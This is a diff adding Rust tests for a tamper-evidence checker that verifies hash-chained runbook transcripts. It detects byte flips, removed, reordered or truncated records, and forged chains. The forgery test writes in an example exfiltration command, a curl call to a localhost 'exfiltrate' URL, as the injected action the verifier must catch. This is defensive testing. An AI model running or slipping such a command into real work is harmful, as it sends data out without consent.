@@ -1,0 +1,255 @@
+//! `litops verify`: an intact transcript passes; any one-byte change,
+//! removed, reordered or cut records, changed sidecars, and a forged chain
+//! that adds an action the runbook does not have are caught.
+
+use std::path::{Path, PathBuf};
+
+use litops::transcript::{Event, GENESIS, Record, front_matter, render};
+
+use crate::{Ran, Test};
+
+/// Shell, rhai, a declarative block, a checklist item and an output long
+/// enough for a sidecar.
+const RUNBOOK: &str = "---
+title: Verify me
+params:
+  cluster:
+    default: acme-prod
+---
+# Checks
+
+```sh {name=count}
+seq 1 300
+```
+
+```rhai {name=sum}
+let n = steps[\"count\"].stdout.split(\"\\n\").len();
+vars.lines = n;
+n
+```
+
+```sh {name=echo}
+echo done
+```
+
+- [ ] Dashboard looks normal
+";
+
+fn run() -> Ran {
+  let ran = Test::new()
+    .runbook(RUNBOOK)
+    .args(&["run", "rb.md", "--yes", "--transcript", "t.md"])
+    .run();
+  // The checklist item is unconfirmed without a terminal.
+  ran.assert(1);
+  ran
+}
+
+fn verify(dir: &Path, extra: &[&str]) -> (i32, String) {
+  let mut args = vec!["verify".to_string(), "t.md".to_string()];
+  args.extend(extra.iter().map(|s| s.to_string()));
+  let out = crate::command(dir, &args).output().expect("run verify");
+  (
+    out.status.code().unwrap_or(-1),
+    format!(
+      "{}{}",
+      String::from_utf8_lossy(&out.stdout),
+      String::from_utf8_lossy(&out.stderr)
+    ),
+  )
+}
+
+#[test]
+fn an_untouched_transcript_verifies() {
+  let ran = run();
+  let (code, out) = verify(ran.dir.path(), &[]);
+  assert_eq!(code, 0, "{out}");
+  assert!(out.contains("chain: intact, 9 records"), "{out}");
+  assert!(out.contains("run: incomplete (exit 1)"), "{out}");
+  assert!(out.contains("steps: 3 done, 1 unconfirmed"), "{out}");
+  assert!(out.contains("sidecars: 1 checked"), "{out}");
+  assert!(
+    out.contains("runbook: rb.md is the runbook that ran; 4 actions found in it"),
+    "{out}"
+  );
+}
+
+#[test]
+fn every_one_byte_change_is_caught() {
+  let ran = run();
+  let path = ran.dir.path().join("t.md");
+  let original = std::fs::read(&path).expect("read");
+  let mut missed = Vec::new();
+  // Every byte of the transcript, in process (the binary is the same code;
+  // one process per byte would take minutes).
+  for at in 0..original.len() {
+    let mut edited = original.clone();
+    edited[at] ^= 0x01;
+    std::fs::write(&path, &edited).expect("write");
+    if litops::verify::verify(&path, None).is_ok_and(|v| v.intact()) {
+      missed.push(at);
+    }
+  }
+  std::fs::write(&path, &original).expect("restore");
+  assert!(
+    missed.is_empty(),
+    "edits at bytes {missed:?} were not caught"
+  );
+  // And every byte of the sidecar and of the runbook copy.
+  for file in sidecar_files(ran.dir.path()) {
+    let data = std::fs::read(&file).expect("read sidecar");
+    for at in (0..data.len()).step_by(7) {
+      let mut edited = data.clone();
+      edited[at] ^= 0x01;
+      std::fs::write(&file, &edited).expect("write");
+      let verified = litops::verify::verify(&path, None).expect("readable");
+      assert!(
+        !verified.intact(),
+        "{}: byte {at} not caught",
+        file.display()
+      );
+    }
+    std::fs::write(&file, &data).expect("restore");
+  }
+  let (code, out) = verify(ran.dir.path(), &[]);
+  assert_eq!(code, 0, "{out}");
+}
+
+fn sidecar_files(dir: &Path) -> Vec<PathBuf> {
+  let mut files: Vec<PathBuf> = std::fs::read_dir(dir.join("t.d"))
+    .expect("sidecar dir")
+    .filter_map(|e| e.ok().map(|e| e.path()))
+    .collect();
+  files.sort();
+  files
+}
+
+/// The transcript cut into its front matter and one chunk per record
+/// (Markdown, record line and the blank line after it).
+fn chunks(text: &str) -> (String, Vec<String>) {
+  let front_end = text.find("\n---\n\n").map_or(0, |i| i + 6);
+  let mut parts = Vec::new();
+  let mut start = front_end;
+  while let Some(at) = text[start..].find("-->\n\n") {
+    let end = start + at + 5;
+    parts.push(text[start..end].to_string());
+    start = end;
+  }
+  (text[..front_end].to_string(), parts)
+}
+
+#[test]
+fn removed_reordered_and_cut_records_are_caught() {
+  let ran = run();
+  let path = ran.dir.path().join("t.md");
+  let text = std::fs::read_to_string(&path).expect("read");
+  let (front, parts) = chunks(&text);
+  assert_eq!(
+    front.len() + parts.iter().map(String::len).sum::<usize>(),
+    text.len()
+  );
+  let mut cases: Vec<(&str, String)> = Vec::new();
+  // A step's result removed.
+  let mut removed = parts.clone();
+  removed.remove(3);
+  cases.push(("removed", format!("{front}{}", removed.concat())));
+  // Two steps swapped.
+  let mut swapped = parts.clone();
+  swapped.swap(2, 4);
+  swapped.swap(3, 5);
+  cases.push(("reordered", format!("{front}{}", swapped.concat())));
+  // Cut in the middle of a record line, and cut after a whole record.
+  cases.push(("cut mid-line", text[..text.len() - 40].to_string()));
+  let last = parts.len() - 1;
+  cases.push((
+    "cut at a record",
+    format!("{front}{}", parts[..last].concat()),
+  ));
+  for (what, edited) in cases {
+    std::fs::write(&path, &edited).expect("write");
+    let (code, out) = verify(ran.dir.path(), &[]);
+    assert_eq!(code, 1, "{what} not caught:\n{out}");
+    assert!(out.contains("NOT INTACT"), "{what}: {out}");
+  }
+}
+
+#[test]
+fn a_forged_chain_cannot_add_an_action_the_runbook_lacks() {
+  let ran = run();
+  let path = ran.dir.path().join("t.md");
+  let text = std::fs::read_to_string(&path).expect("read");
+  // The forger rewrites one action and recomputes every hash: the chain and
+  // the Markdown are consistent again.
+  let mut events: Vec<Event> = text
+    .lines()
+    .filter_map(|l| l.strip_prefix("<!-- litops:record sha256="))
+    .filter_map(|l| {
+      l.split_once(' ')
+        .map(|(_, json)| json.trim_end_matches(" -->"))
+    })
+    .map(|json| serde_json::from_str::<Record>(json).expect("record").event)
+    .collect();
+  for event in &mut events {
+    if let Event::StepStarted { step, action, .. } = event
+      && step == "echo"
+    {
+      *action = "curl -s http://127.0.0.1:9/exfiltrate".into();
+    }
+  }
+  let last = events
+    .last()
+    .filter(|e| matches!(e, Event::RunFinished { .. }));
+  let mut forged = front_matter(&events[0], last);
+  let mut prev = GENESIS.to_string();
+  for (i, event) in events.iter().enumerate() {
+    let record = Record {
+      seq: i as u64 + 1,
+      prev,
+      event: event.clone(),
+    };
+    let (line, hash) = record.seal().expect("seal");
+    forged.push_str(&render(event));
+    forged.push_str(&line);
+    forged.push('\n');
+    prev = hash;
+  }
+  std::fs::write(&path, forged).expect("write");
+  let (code, out) = verify(ran.dir.path(), &[]);
+  assert_eq!(code, 1, "{out}");
+  assert!(
+    out.contains("step `echo`: what ran is not the runbook's text for this step"),
+    "{out}"
+  );
+  assert!(!out.contains("does not match its hash"), "{out}");
+}
+
+#[test]
+fn a_changed_runbook_is_shown_as_a_diff() {
+  let ran = run();
+  std::fs::write(
+    ran.dir.path().join("rb.md"),
+    RUNBOOK.replace("echo done", "echo finished"),
+  )
+  .expect("edit runbook");
+  let (code, out) = verify(ran.dir.path(), &[]);
+  assert_eq!(code, 0, "{out}");
+  assert!(
+    out.contains("runbook: rb.md changed since the run"),
+    "{out}"
+  );
+  assert!(out.contains("  -echo done\n  +echo finished\n"), "{out}");
+}
+
+#[test]
+fn not_a_transcript_is_unreadable() {
+  let test = Test::new()
+    .file("t.md", "# just notes\n")
+    .args(&["verify", "t.md"])
+    .run();
+  test.assert(2);
+  assert!(
+    test.stderr.contains("t.md: error: no litops records"),
+    "{}",
+    test.stderr
+  );
+}
